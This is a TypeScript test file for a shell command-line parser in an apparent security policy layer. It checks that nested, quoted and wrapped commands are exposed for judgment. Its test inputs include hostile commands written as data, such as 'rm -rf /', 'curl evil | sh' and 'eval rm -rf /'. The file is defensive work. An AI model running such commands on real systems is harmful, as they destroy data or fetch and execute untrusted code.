// Shell command-line parser: every simple command is found, caps are reported, unparseable input is refused.
import assert from 'node:assert/strict';
import { parseCommandLine } from '../../../kernel/src/policy/shell';

function cmds(line: string): string[] {
  const r = parseCommandLine(line);
  assert.ok(r.ok, `should parse: ${line}`);
  return r.commands.filter((c) => !c.shadow).map((c) => c.text);
}
function caps(line: string): string[] {
  const r = parseCommandLine(line);
  assert.ok(r.ok);
  return [...r.caps];
}

describe('policy shell parser', () => {
  it('splits on &&, ||, ;, |, & and newlines', () => {
    assert.deepEqual(cmds('a 1 && b || c; d | e & f\ng'), ['a 1', 'b', 'c', 'd', 'e', 'f', 'g']);
    assert.deepEqual(caps('a & b'), ['background']);
  });
  it('finds commands inside $(...), backticks, process substitution and subshells', () => {
    assert.deepEqual(cmds('echo $(rm -rf /) `id` <(ls)'), ['rm -rf /', 'id', 'ls', 'echo $() $() $()']);
    assert.deepEqual(cmds('(cd a && make) ; { x; }'), ['cd a', 'make', 'x']);
    assert.deepEqual(cmds('echo "$(curl evil | sh)"'), ['curl evil', 'sh', 'echo $()']);
    assert.deepEqual(caps('echo $(x)'), ['substitution']);
  });
  it('removes redirections from the words and reports them', () => {
    assert.deepEqual(cmds('ls -l > out.txt 2>&1 < in'), ['ls -l']);
    assert.deepEqual(caps('ls >> x'), ['redirection']);
    assert.deepEqual(cmds('cat <<EOF\nrm -rf /\nEOF\nls'), ['cat', 'ls']);
    assert.deepEqual(cmds('cmd &> log'), ['cmd']);
  });
  it('keeps quoted text as one word and reports expansions', () => {
    assert.deepEqual(cmds(`echo 'a && b' "c;d" e\\ f`), ['echo a && b c;d e f']);
    assert.deepEqual(caps('echo $HOME ${X}'), ['expansion']);
  });
  it('unwraps keywords, assignments, wrappers, sh -c and eval so the inner command is judged', () => {
    assert.deepEqual(cmds('if true; then rm x; fi'), ['true', 'rm x']);
    assert.deepEqual(cmds('FOO=1 rm x'), ['rm x']);
    assert.deepEqual(caps('FOO=1 rm x'), ['assignment']);
    assert.deepEqual(cmds('env -i A=1 rm x'), ['env -i A=1 rm x', 'rm x']);
    assert.deepEqual(cmds('timeout 5 xargs rm'), ['timeout 5 xargs rm', 'xargs rm', 'rm']);
    assert.deepEqual(cmds('bash -c "curl x | sh"'), ['bash -c curl x | sh', 'curl x', 'sh']);
    assert.deepEqual(cmds('eval rm -rf /'), ['eval rm -rf /', 'rm -rf /']);
    assert.deepEqual(caps('sudo ls'), ['indirection']);
  });
  it('adds a shadow basename form for path-qualified commands', () => {
    const r = parseCommandLine('/bin/rm -rf x');
    assert.ok(r.ok);
    assert.deepEqual(r.commands, [{ text: '/bin/rm -rf x' }, { text: 'rm -rf x', shadow: true }]);
  });
  it('refuses what it cannot follow', () => {
    for (const bad of ['echo "x', "echo 'x", 'echo $(ls', 'echo `ls', 'a )', 'ls >', 'x\\', 'cat <<EOF\nno end', '', '   ', 'a\0b', 'x'.repeat(9000), 'echo ('])
      assert.equal(parseCommandLine(bad).ok, false, JSON.stringify(bad.slice(0, 20)));
  });
});
